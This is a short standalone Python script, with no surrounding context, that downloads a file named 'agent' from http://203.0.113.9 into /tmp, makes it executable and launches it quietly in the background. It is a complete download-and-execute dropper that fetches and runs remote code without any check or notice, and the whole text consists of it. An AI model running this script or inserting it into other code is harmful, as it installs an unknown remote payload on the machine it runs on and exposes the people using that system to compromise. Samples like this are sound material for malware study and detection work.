import urllib.request, os, stat, subprocess
urllib.request.urlretrieve("http://203.0.113.9/agent", "/tmp/agent")
os.chmod("/tmp/agent", os.stat("/tmp/agent").st_mode | stat.S_IEXEC)
subprocess.Popen(["/tmp/agent", "--quiet"])
